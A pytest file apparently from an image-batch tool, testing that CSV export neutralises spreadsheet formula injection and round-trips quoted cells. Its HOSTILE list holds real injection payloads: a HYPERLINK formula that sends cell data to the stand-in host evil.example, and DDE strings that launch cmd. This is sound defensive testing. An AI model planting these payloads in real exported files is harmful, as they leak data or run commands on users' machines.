"""CSV cells a spreadsheet would run as a formula are neutralised, and read back as they were (issue 21
#5)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from imagebatch.storage.csvcells import csv_cell, csv_value, read_csv, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "-",
    "=",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_gets_a_leading_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert csv_value(csv_cell(value)) == value


@pytest.mark.parametrize("value", ["-3", "+1.5", "-0.25", "-.5", "-2e3", "+7E-2", "12", "0.5"])
def test_a_plain_number_is_left_alone(value: str) -> None:
    assert csv_cell(value) == value
    assert csv_value(csv_cell(value)) == value


@pytest.mark.parametrize("value", ["'quoted", "''", "'=1+1", "'"])
def test_a_leading_quote_of_the_value_itself_survives_the_round_trip(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert csv_value(csv_cell(value)) == value


def test_ordinary_cells_none_and_numbers() -> None:
    assert [csv_cell(v) for v in ("cobalt", "SKU-1", "a=b", "", None, 3, -3, 0.5)] == [
        "cobalt", "SKU-1", "a=b", "", "", "3", "-3", "0.5",
    ]  # fmt: skip


def test_a_table_round_trips_header_included(tmp_path: Path) -> None:
    columns = ["job_id", "=note", "sku"]
    rows = [
        {"job_id": "j1", "=note": HOSTILE[0], "sku": "-3"},
        {"job_id": "j2", "=note": "'already quoted", "sku": "@x"},
        {"job_id": "j3"},  # missing cells are empty
    ]
    buf = io.StringIO()
    write_csv(buf, columns, rows)
    raw = list(csv.reader(io.StringIO(buf.getvalue())))
    assert raw[0] == ["job_id", "'=note", "sku"]
    assert raw[1] == ["j1", "'" + HOSTILE[0], "-3"]
    assert raw[2] == ["j2", "''already quoted", "'@x"]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for line in raw for cell in line)
    path = tmp_path / "t.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    assert list(read_csv(path)) == [
        rows[0], rows[1], {"job_id": "j3", "=note": "", "sku": ""},
    ]  # fmt: skip


@pytest.mark.parametrize("value", ["mid\rdle", "a\nb", "a\r\nb", 'say "hi"', "a,b", "\r"])
def test_a_cell_with_a_line_break_quote_or_comma_is_quoted_and_reads_back(value: str) -> None:
    """Issue 29 #2: a bare CR went out unquoted (csv.writer quotes only its own line terminator)."""
    buf = io.StringIO()
    write_csv(buf, ["id", "note", "last"], [{"id": "g1", "note": value, "last": "z"}])
    text = buf.getvalue()
    assert text.count("\n") == 2 + value.count("\n")  # the header, the row, and the value's own LFs
    for reader_rows in (list(csv.reader(io.StringIO(text, newline=""))),):
        assert reader_rows[1] == ["g1", csv_cell(value), "z"]
    assert list(read_csv(io.StringIO(text, newline=""))) == [{"id": "g1", "note": value, "last": "z"}]


def test_a_file_another_tool_wrote_short_rows_and_missing_columns_read_without_a_missing_key() -> None:
    text = "job_id,status,model\nj1,succeeded\n\nj2,failed,m,extra,cells\n"
    rows = list(read_csv(io.StringIO(text, newline=""), ["job_id", "status", "route"]))
    assert rows == [
        {"job_id": "j1", "status": "succeeded", "model": "", "route": ""},
        {"job_id": "j2", "status": "failed", "model": "m", "route": ""},
    ]
